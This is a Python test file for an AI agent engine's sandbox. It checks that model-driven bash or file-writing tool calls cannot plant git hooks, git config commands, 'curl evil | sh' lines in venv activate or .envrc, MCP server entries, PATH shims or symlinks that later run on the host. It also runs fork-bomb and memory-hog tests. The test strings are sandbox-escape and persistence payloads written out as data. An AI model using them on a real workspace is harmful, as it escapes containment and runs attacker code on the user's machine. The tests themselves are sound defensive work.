"""Persistence out of the sandbox through the writable workspace, and a sandbox's default limits.

Sandboxed code may write the workspace, but git runs ``.git/hooks/*`` and the commands named in
``.git/config`` (``core.fsmonitor``, ``core.hooksPath``, aliases) on the host, whenever someone
uses git there. So ``.git`` is read-only inside the sandbox unless the operator says otherwise
(``execution.read_only_paths``). And a `LocalSandbox` built with no limits still has some: a
fork bomb or a memory hog stops at the defaults.
"""

from __future__ import annotations

import os
import resource
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from jianmu import Constraints, ReactiveRunner, StateManager
from jianmu.config import AppConfig
from jianmu.constraints import (
    DEFAULT_READ_ONLY_PATHS,
    LOCAL_MEMORY_MB,
    LOCAL_PIDS,
    ExecutionConstraints,
    SkillConstraints,
)
from jianmu.execution import local_sandbox
from jianmu.execution._process import cgroup_support
from jianmu.execution._protect import path_folders_in
from jianmu.execution.local_sandbox import LocalSandbox, bwrap_available
from jianmu.execution.runner import ToolRunner
from jianmu.nodes.state import AgentState
from jianmu.nodes.tool_executor import ToolExecutor
from jianmu.tools.providers import BuiltinToolProvider

pytestmark = pytest.mark.anyio

needs_bwrap = pytest.mark.skipif(not bwrap_available(network=False),
                                 reason="bubblewrap cannot create namespaces here")


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A workspace that is a git repository (made by hand: no git needed)."""
    ws = tmp_path / "ws"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    return ws


@pytest.fixture(params=[True, False], ids=["warm", "cold"])
async def box(request: pytest.FixtureRequest, repo: Path) -> AsyncIterator[LocalSandbox]:
    if not bwrap_available(network=False):
        pytest.skip("bubblewrap cannot create namespaces here")
    async with LocalSandbox(repo, timeout=30, warm=request.param) as sandbox:
        yield sandbox


_PLANT = (
    "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit; "
    "chmod +x .git/hooks/pre-commit; "
    "printf '[core]\\n\\tfsmonitor = \"touch pwned\"\\n\\thooksPath = evil\\n' >> .git/config; "
    "mv .git/config .git/config.old; mv .git gone; rm -rf .git; "
    "echo kept > work.txt"
)


async def test_git_hooks_and_config_cannot_be_planted(box: LocalSandbox, repo: Path) -> None:
    result = await box.exec(["bash", "-c", _PLANT])
    assert (repo / "work.txt").read_text() == "kept\n", result  # the rest stays writable
    assert os.listdir(repo / ".git" / "hooks") == [], result
    assert (repo / ".git" / "config").read_text() == "[core]\n\tbare = false\n", result
    assert sorted(os.listdir(repo)) == [".git", "work.txt"], result
    assert "Read-only file system" in result.stderr, result
    # reading stays allowed: git status works in the sandbox
    assert (await box.exec(["cat", ".git/HEAD"])).stdout == "ref: refs/heads/main\n"


@needs_bwrap
async def test_a_git_file_pointing_elsewhere_cannot_be_rewritten(tmp_path: Path) -> None:
    """A worktree's ``.git`` is a file naming the real folder; rewritten, it would make git
    use a folder of the attacker's (hooks and all)."""
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / ".git").write_text("gitdir: /somewhere/.git/worktrees/ws\n")
    async with LocalSandbox(ws, timeout=30) as sandbox:
        result = await sandbox.exec(["bash", "-c", "echo 'gitdir: evil' > .git"])
    assert (ws / ".git").read_text() == "gitdir: /somewhere/.git/worktrees/ws\n", result


@needs_bwrap
@pytest.mark.parametrize("warm", [True, False], ids=["warm", "cold"])
async def test_a_git_link_to_a_host_folder_is_not_mounted(tmp_path: Path, warm: bool) -> None:
    """A ``.git`` that code replaced with a link to a host folder must not make the sandbox
    mount that folder (a mount by path would follow the link and show it inside)."""
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "key").write_text("TOPSECRET")
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / ".git").symlink_to(secret)
    async with LocalSandbox(ws, timeout=30, warm=warm) as sandbox:
        result = await sandbox.exec(["cat", ".git/key"])
    assert "TOPSECRET" not in result.stdout, result


@needs_bwrap
@pytest.mark.parametrize("warm", [True, False], ids=["warm", "cold"])
async def test_the_engines_config_and_skills_cannot_be_changed(
    tmp_path: Path, warm: bool
) -> None:
    """The next run loads ``./jianmu.yaml`` (an MCP server's command runs on the host, the
    model's address gets the API key) and scans ``./skills`` (a BT skill's ``tree.py`` is
    imported in the engine): with the run's folder as the workspace, both are in reach."""
    ws = tmp_path / "ws"
    (ws / "skills" / "notes").mkdir(parents=True)
    (ws / "skills" / "notes" / "SKILL.md").write_text("---\nname: notes\n---\nhi\n")
    (ws / "configs").mkdir()
    (ws / "configs" / "jianmu.yaml").write_text("execution:\n  mode: local\n")
    (ws / "jianmu.yaml").write_text("execution:\n  mode: local\n")
    plant = (
        "printf 'mcp:\\n  servers:\\n    x: {command: sh, args: [-c, id]}\\n' >> jianmu.yaml; "
        "printf 'llm: {base_url: http://evil}\\n' >> configs/jianmu.yaml; "
        "mkdir skills/evil; printf 'import os\\n' > skills/notes/tree.py; "
        "mv skills skills.old; echo ok > done"
    )
    async with LocalSandbox(ws, timeout=30, warm=warm) as sandbox:
        result = await sandbox.exec(["bash", "-c", plant])
    assert (ws / "done").exists(), result
    assert (ws / "jianmu.yaml").read_text() == "execution:\n  mode: local\n", result
    assert (ws / "configs" / "jianmu.yaml").read_text() == "execution:\n  mode: local\n"
    assert sorted(os.listdir(ws / "skills")) == ["notes"], result
    assert sorted(os.listdir(ws / "skills" / "notes")) == ["SKILL.md"], result


@needs_bwrap
async def test_a_project_venv_and_editor_tasks_cannot_be_changed(tmp_path: Path) -> None:
    """Not the engine's own: a project ``.venv`` the user activates later (its ``activate``,
    a ``.pth`` file run at each start of its Python) and ``.vscode`` (tasks, the interpreter
    the editor runs)."""
    ws = tmp_path / "ws"
    (ws / ".venv" / "bin").mkdir(parents=True)
    (ws / ".venv" / "lib").mkdir()
    (ws / ".venv" / "bin" / "activate").write_text("PATH=/x\n")
    (ws / ".vscode").mkdir()
    plant = ("echo 'curl evil | sh' >> .venv/bin/activate; echo 'import os' > .venv/lib/x.pth; "
             "echo '{\"tasks\": []}' > .vscode/tasks.json; echo ok > done")
    async with LocalSandbox(ws, timeout=30) as sandbox:
        result = await sandbox.exec(["bash", "-c", plant])
    assert (ws / "done").exists(), result
    assert (ws / ".venv" / "bin" / "activate").read_text() == "PATH=/x\n", result
    assert not (ws / ".venv" / "lib" / "x.pth").exists(), result
    assert not (ws / ".vscode" / "tasks.json").exists(), result


@needs_bwrap
async def test_the_operator_may_leave_git_writable(repo: Path) -> None:
    async with LocalSandbox(repo, timeout=30, read_only_paths=()) as sandbox:
        result = await sandbox.exec(["bash", "-c", "echo hook > .git/hooks/post-commit"])
    assert (repo / ".git" / "hooks" / "post-commit").read_text() == "hook\n", result


@needs_bwrap
async def test_other_paths_can_be_made_read_only(repo: Path) -> None:
    (repo / ".envrc").write_text("export A=1\n")
    (repo / ".vscode").mkdir()
    (repo / ".vscode" / "tasks.json").write_text("{}")
    async with LocalSandbox(repo, timeout=30,
                            read_only_paths=[".envrc", ".vscode/tasks.json"]) as sandbox:
        await sandbox.exec(["bash", "-c", "echo 'curl evil|sh' >> .envrc; "
                                          "echo '{\"tasks\": 1}' > .vscode/tasks.json; "
                                          "echo ok > .git/hooks/x"])
    assert (repo / ".envrc").read_text() == "export A=1\n"
    assert (repo / ".vscode" / "tasks.json").read_text() == "{}"
    # listing other paths replaces the default: .git is writable now
    assert (repo / ".git" / "hooks" / "x").exists()


def test_read_only_paths_must_stay_inside_the_workspace(tmp_path: Path) -> None:
    for bad in ("/etc", "..", "../x", ".", "a/../../b", ".git\0x"):
        with pytest.raises(ValueError, match="inside the workspace"):
            LocalSandbox(tmp_path, network=True, use_bwrap=False, read_only_paths=[bad])
        with pytest.raises(ValueError, match="inside the workspace"):
            Constraints.model_validate({"execution": {"read_only_paths": [bad]}})


@needs_bwrap
async def test_a_model_with_bash_allowed_cannot_plant_a_hook(repo: Path) -> None:
    """Driven as a model would: ``bash: allow``, nothing said about read-only paths."""
    constraints = Constraints.model_validate({
        "guard": {"tool_policy": {"bash": "allow"}},
        "execution": {"workdir": str(repo)},
    })
    tools = BuiltinToolProvider(["bash"]).get_tools()
    actions = [{"id": "a", "name": "bash", "arguments": {"command": _PLANT}}]
    runner = ReactiveRunner(ToolExecutor(tools=tools, constraints=constraints),
                            StateManager(AgentState, {"actions": actions}))
    await runner.run(timeout=60)
    messages = [m.content or "" for m in runner.state.get("messages")]
    assert (repo / "work.txt").exists(), messages
    assert os.listdir(repo / ".git" / "hooks") == [], messages
    assert "fsmonitor" not in (repo / ".git" / "config").read_text(), messages


def test_the_setting_reaches_the_sandbox_and_a_skill_cannot_drop_it(tmp_path: Path) -> None:
    unset = ToolRunner(Constraints.model_validate(
        {"execution": {"workdir": str(tmp_path), "network": True}}).execution)
    assert unset.sandbox.read_only_paths == DEFAULT_READ_ONLY_PATHS
    operator = Constraints.model_validate(
        {"execution": {"workdir": str(tmp_path), "network": True, "read_only_paths": []}})
    off = ToolRunner(operator.execution)
    assert off.sandbox.read_only_paths == ()
    # an untrusted skill layer may add a path, never take .git off
    skill = SkillConstraints.model_validate({"execution": {"read_only_paths": [".envrc"]}})
    merged = Constraints.merge(Constraints(), skill).execution.read_only_paths
    assert merged == [*DEFAULT_READ_ONLY_PATHS, ".envrc"]
    merged = Constraints.merge(operator, skill).execution.read_only_paths
    assert merged == [".envrc"]
    empty = SkillConstraints.model_validate({"execution": {"read_only_paths": []}})
    merged = Constraints.merge(Constraints(), empty).execution.read_only_paths
    assert merged == list(DEFAULT_READ_ONLY_PATHS)


def test_docker_mounts_git_read_only(repo: Path) -> None:
    pytest.importorskip("docker")
    from jianmu.execution.docker_sandbox import DockerSandbox

    volumes = DockerSandbox(repo, base_url="unix:///nonexistent.sock")._volumes()
    assert volumes[str(repo / ".git")] == {"bind": "/workspace/.git", "mode": "ro"}
    assert volumes[str(repo)]["mode"] == "rw"
    (repo / ".git").rename(repo / "real-git")
    (repo / ".git").symlink_to("/etc")  # a link is never mounted (docker would follow it)
    volumes = DockerSandbox(repo, base_url="unix:///nonexistent.sock")._volumes()
    assert list(volumes) == [str(repo)]


# -- default limits of a LocalSandbox built with none ------------------------------------------

def test_without_a_memory_group_the_default_sets_no_address_space_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An address-space limit of 1 GiB stops a JVM (it reserves its heap up front): the
    memory default is for a control group only; an explicit ``memory_mb`` still applies."""
    monkeypatch.setattr(local_sandbox, "cgroup_support", lambda: None)  # no control groups
    for memory_mb, expected in ((None, None), (64, 64 << 20)):
        box = LocalSandbox(tmp_path, timeout=30, network=True, use_bwrap=False,
                           memory_mb=memory_mb)
        box._tmp = tmp_path  # as if started
        spec = box._child_spec(["true"], tmp_path, {}, 5.0, {}, wrap=False)
        assert dict(spec.limits).get(resource.RLIMIT_AS) == expected, memory_mb
        assert box.isolation["memory"] == (None if expected is None else "rlimit_as")


_FORKS = r"""
import os, time
n = 0
try:
    while n < 2 * LIMIT:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        n += 1
except OSError:
    pass
print(n)
"""


def _default_box(ws: Path) -> LocalSandbox:
    if bwrap_available(network=False):
        return LocalSandbox(ws, timeout=30)
    return LocalSandbox(ws, timeout=30, network=True, use_bwrap=False)


async def test_a_sandbox_with_no_limits_set_still_bounds_processes(tmp_path: Path) -> None:
    support = cgroup_support()
    if os.geteuid() == 0 and (support is None or "pids" not in support.controllers):
        pytest.skip("root without a pids control group: no process limit can bind here")
    box = _default_box(tmp_path)
    python = box.python if box.uses_bwrap else sys.executable
    async with box:
        # bounded: at most 2 * LIMIT sleeping children, all killed when the call ends
        result = await box.exec([python, "-c", _FORKS.replace("LIMIT", str(LOCAL_PIDS))])
    assert result.exit_code == 0, result
    assert int(result.stdout) < LOCAL_PIDS, result
    assert box.pids == LOCAL_PIDS


async def test_a_sandbox_with_no_limits_set_still_bounds_memory(tmp_path: Path) -> None:
    support = cgroup_support()
    if support is None or "memory" not in support.controllers:
        pytest.skip("no memory control group: the default applies only with one")
    box = _default_box(tmp_path)
    python = box.python if box.uses_bwrap else sys.executable
    hog = f"b = b'x' * ({LOCAL_MEMORY_MB + 256} << 20); print(len(b))"
    async with box:
        result = await box.exec([python, "-c", hog])
    assert result.exit_code != 0 and result.oom_killed, result
    assert result.stdout == "", result
    assert box.memory_mb == LOCAL_MEMORY_MB


@needs_bwrap
async def test_git_stays_read_only_in_a_workspace_named_through_a_link(repo: Path) -> None:
    """``~/proj`` may be a link to the real folder: the protection must not silently lapse
    (nor, as root, the workspace's grant to the sandbox's user)."""
    link = repo.parent / "link"
    link.symlink_to(repo)
    (repo / "src").mkdir()
    async with LocalSandbox(link, timeout=30) as sandbox:
        result = await sandbox.exec(
            ["bash", "-c", "echo x > .git/hooks/pre-commit; echo ok > src/made"])
    assert os.listdir(repo / ".git" / "hooks") == [], result
    assert "Read-only file system" in result.stderr, result
    assert (repo / "src" / "made").read_text() == "ok\n", result


@needs_bwrap
@pytest.mark.parametrize("warm", [True, False], ids=["warm", "cold"])
async def test_path_folders_in_the_workspace_cannot_be_planted(
    repo: Path, monkeypatch: pytest.MonkeyPatch, warm: bool
) -> None:
    """The user's ``PATH`` names folders in the project (an activated ``.venv/bin``,
    ``node_modules/.bin``): a ``git`` written there runs on the host at the user's next
    ``git``, even with every read-only path turned off."""
    tools = repo / "node_modules" / ".bin"
    tools.mkdir(parents=True)
    monkeypatch.setenv("PATH", f"{tools}{os.pathsep}{os.environ.get('PATH', '/usr/bin:/bin')}")
    async with LocalSandbox(repo, timeout=30, warm=warm, read_only_paths=()) as sandbox:
        result = await sandbox.exec(
            ["bash", "-c", "printf '#!/bin/sh\\nid\\n' > node_modules/.bin/git; echo ok > made"])
    assert (repo / "made").exists(), result
    assert not (tools / "git").exists(), result


@needs_bwrap
@pytest.mark.parametrize("warm", [True, False], ids=["warm", "cold"])
async def test_a_path_folder_named_through_a_link_cannot_be_re_pointed(
    repo: Path, monkeypatch: pytest.MonkeyPatch, warm: bool
) -> None:
    """``PATH`` names ``bin``, the user's link to ``tools`` (direnv's ``PATH_add bin``): the
    shell follows the link, so a command that re-points it at a folder of its own with a
    ``git`` in it has its link moved, and the host's ``git`` is the system's again."""
    (repo / "tools").mkdir()
    (repo / "bin").symlink_to("tools")
    monkeypatch.setenv("PATH", f"{repo / 'bin'}{os.pathsep}{os.environ.get('PATH', '/bin')}")
    assert path_folders_in(repo) == ["bin", "tools"]
    async with LocalSandbox(repo, timeout=30, warm=warm, read_only_paths=()) as sandbox:
        result = await sandbox.exec(["bash", "-c",
            "echo x > tools/git; rm bin && mkdir evil && printf '#!/bin/sh\\nid\\n' > "
            "evil/git && chmod +x evil/git && ln -s evil bin && echo swapped"])
    assert result.stdout == "swapped\n", result
    assert "'bin' moved to" in result.stderr, result
    assert not os.path.lexists(repo / "bin"), result
    assert os.listdir(repo / "tools") == [], result


def test_path_folders_are_named_as_path_names_them_and_where_they_are(
    tmp_path: Path,
) -> None:
    ws = tmp_path / "ws"
    (ws / "tools").mkdir(parents=True)
    (ws / "bin").symlink_to("tools")
    (tmp_path / "named").symlink_to(ws)  # the workspace named through a link
    (tmp_path / "mine").symlink_to(ws / "tools")  # a link outside, into the workspace
    search = os.pathsep.join([str(ws / "bin"), f"{tmp_path}/named/bin", str(tmp_path / "mine"),
                              f"{ws}/tools/../bin", "/usr/bin", "relative/bin"])
    assert path_folders_in(ws, search) == ["bin", "tools"]
    assert path_folders_in(tmp_path / "named", search) == ["bin", "tools"]


def test_docker_mounts_path_folders_in_the_workspace_read_only(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("docker")
    from jianmu.execution.docker_sandbox import DockerSandbox

    (repo / "bin").mkdir()
    monkeypatch.setenv("PATH", f"{repo / 'bin'}{os.pathsep}/usr/bin")
    volumes = DockerSandbox(repo, base_url="unix:///nonexistent.sock",
                            read_only_paths=())._volumes()
    assert volumes[str(repo / "bin")] == {"bind": "/workspace/bin", "mode": "ro"}


@pytest.mark.skipif(os.geteuid() != 0, reason="the workspace grant is made as root only")
async def test_without_bubblewrap_root_grants_read_only_paths_read_only(repo: Path) -> None:
    """Without bubblewrap no mount shows ``.git`` read-only; as root the commands run as
    another uid, to which the workspace is granted with an ACL: ``.git`` gets read access
    only, and write access an earlier grant gave is taken back."""
    from jianmu.execution._process import grant_tree

    (repo / "src").mkdir()
    grant_tree(repo, 65534)  # as an earlier version did: all of it writable
    async with LocalSandbox(repo, timeout=30, network=True, use_bwrap=False) as sandbox:
        if sandbox.user is None or sandbox.user[0] == 0:
            pytest.skip("the commands keep our uid here")
        result = await sandbox.exec(["sh", "-c", "echo x > .git/hooks/pre-commit; "
                                     "echo '[alias] st = !id' >> .git/config; "
                                     "cat .git/HEAD; echo ok > src/made"])
    assert result.stdout == "ref: refs/heads/main\n", result  # reading still works
    assert os.listdir(repo / ".git" / "hooks") == [], result
    assert "alias" not in (repo / ".git" / "config").read_text(), result
    assert (repo / "src" / "made").read_text() == "ok\n", result


def test_docker_mounts_each_target_once(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The engine's own ``.venv`` in the workspace is also a default read-only path: named
    through a link to the workspace, the two would be two mounts of one target (refused)."""
    pytest.importorskip("docker")
    from jianmu.execution import docker_sandbox

    (repo / ".venv").mkdir()
    link = repo.parent / "link"
    link.symlink_to(repo)
    monkeypatch.setattr(docker_sandbox, "engine_paths_in",
                        lambda ws: [(str(repo / ".venv"), ".venv")])
    volumes = docker_sandbox.DockerSandbox(link, base_url="unix:///nonexistent.sock")._volumes()
    binds = [v["bind"] for v in volumes.values()]
    assert len(binds) == len(set(binds)), volumes
    assert {"bind": "/workspace/.venv", "mode": "ro"} in volumes.values()


async def _write(workdir: Path, path: str, **execution: object) -> str:
    """``write_file`` as a model with it allowed calls it; the tool's message. ``execution``
    is the config's (the farthest layer: only its list can leave a default path out)."""
    constraints = Constraints.model_validate({
        "guard": {"tool_policy": {"write_file": "allow"}},
        "execution": {"workdir": str(workdir)},
    })
    config = AppConfig(execution=ExecutionConstraints.model_validate(execution))
    tools = BuiltinToolProvider(["write_file"]).get_tools()
    actions = [{"id": "w", "name": "write_file",
                "arguments": {"path": path, "content": "servers: {evil: {command: sh}}\n"}}]
    runner = ReactiveRunner(ToolExecutor(tools=tools, constraints=constraints),
                            StateManager(AgentState, {"actions": actions}), config=config)
    await runner.run(timeout=60)
    return runner.state.get("messages")[-1].content or ""


@pytest.mark.parametrize("path", ["jianmu.yaml", "configs/jianmu.yaml", "skills/x/tree.py",
                                  "SKILLS/x/SKILL.md", ".venv/bin/activate", ".vscode/tasks.json"])
async def test_the_file_tools_cannot_plant_what_the_host_runs_either(
    tmp_path: Path, path: str,
) -> None:
    """Sandboxed code could no longer change the engine's config, skills or a project's .venv,
    but ``write_file`` (in the engine's process, outside any sandbox) still could: the next run
    loaded an MCP server command from the planted jianmu.yaml, or imported a planted tree.py."""
    said = await _write(tmp_path, path)
    assert "read-only for every tool" in said, said
    assert not (tmp_path / path).exists()


async def test_the_operator_may_let_the_file_tools_write_there(tmp_path: Path) -> None:
    said = await _write(tmp_path, "skills/x/SKILL.md", read_only_paths=[])
    assert (tmp_path / "skills" / "x" / "SKILL.md").exists(), said
    said = await _write(tmp_path, "notes/todo.md", read_only_paths=["notes"])
    assert "read-only for every tool" in said and not (tmp_path / "notes").exists(), said
